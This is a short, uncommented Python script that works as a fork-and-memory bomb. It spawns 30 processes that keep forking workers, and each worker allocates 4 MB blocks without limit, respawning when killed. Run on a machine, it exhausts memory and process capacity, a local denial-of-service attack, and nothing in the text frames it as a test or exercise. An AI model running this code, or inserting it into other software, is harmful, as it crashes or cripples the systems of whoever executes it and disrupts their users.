import os, time

def eat():
    held = []
    while True:
        held.append(bytearray(4 << 20))

for i in range(30):
    if os.fork() == 0:
        while True:
            if os.fork() == 0:
                eat()
            os.wait()
time.sleep(60)
